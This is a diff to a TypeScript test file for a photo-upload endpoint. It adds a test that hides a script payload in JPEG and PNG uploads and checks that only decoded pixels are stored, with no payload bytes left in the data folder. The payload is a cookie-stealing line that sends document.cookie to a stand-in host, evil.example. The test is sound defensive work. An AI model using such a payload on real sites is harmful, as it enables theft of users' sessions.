@@ -1,6 +1,6 @@
 import type { ServerType } from "@hono/node-server";
 import { spawn, type ChildProcess } from "node:child_process";
-import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
+import { existsSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
 import { request } from "node:http";
 import { connect } from "node:net";
 import path from "node:path";
@@ -21,9 +21,11 @@ import {
   executable,
   gpsOf,
   heicPhoto,
+  jpegCarrying,
   jpegOfSize,
   phoneJpeg,
   pngBomb,
+  pngCarrying,
   smallPng,
   smallWebp,
   svgWithScript,
@@ -273,6 +275,35 @@ describe("photos with a quote, over HTTP", { timeout: 60_000 }, () => {
     expect(kept.orientation).toBeUndefined();
     expect(file.includes(Buffer.from("TestPhone"))).toBe(false);
     expect(row!.id).toMatch(/^[A-Za-z0-9_-]{22}$/);
+  });
+
+  test("what is stored depends on the pixels alone: no uploaded byte outside them survives, anywhere in the data folder", async () => {
+    // What a scanner would look for: a script hidden where an image decoder reads past it.
+    const payload = Buffer.from(`<script>fetch("https://evil.example/" + document.cookie)</script>`);
+    const jpeg = await phoneJpeg({ width: 640, height: 480 });
+    const png = await smallPng();
+    const uploads = [
+      { name: "plain.jpg", bytes: jpeg },
+      { name: "carrying.jpg", bytes: jpegCarrying(jpeg, payload) },
+      { name: "plain.png", bytes: png, type: "image/png" },
+      { name: "carrying.png", bytes: pngCarrying(png, payload), type: "image/png" },
+    ];
+    expect([uploads[1]!, uploads[3]!].every((upload) => upload.bytes.includes(payload))).toBe(true);
+    const res = await post(multipart(quoteFields, uploads));
+    expect(res.status).toBe(201);
+    const { id } = (await res.json()) as { id: number };
+    const files = store.photos.forQuote(id).map((row) => readFileSync(path.join(store.photos.dir, `${row.id}.jpg`)));
+    expect(files).toHaveLength(4);
+    // Byte for byte the photo its plain twin became: nothing but the decoded pixels reached the stored file.
+    expect(files[1]!.equals(files[0]!)).toBe(true);
+    expect(files[3]!.equals(files[2]!)).toBe(true);
+    expect(files[1]!.equals(uploads[1]!.bytes)).toBe(false);
+    // Nor anywhere else: the database, its journal and the photo folders hold no trace of the payload.
+    const everything = readdirSync(store.dataDir, { recursive: true, encoding: "utf8" })
+      .map((name) => path.join(store.dataDir, name))
+      .filter((file) => statSync(file).isFile());
+    expect(everything.length).toBeGreaterThan(files.length);
+    for (const file of everything) expect(readFileSync(file).includes(payload), file).toBe(false);
   });
 
   test("a quote without photos still goes as multipart: empty file parts are ignored", async () => {
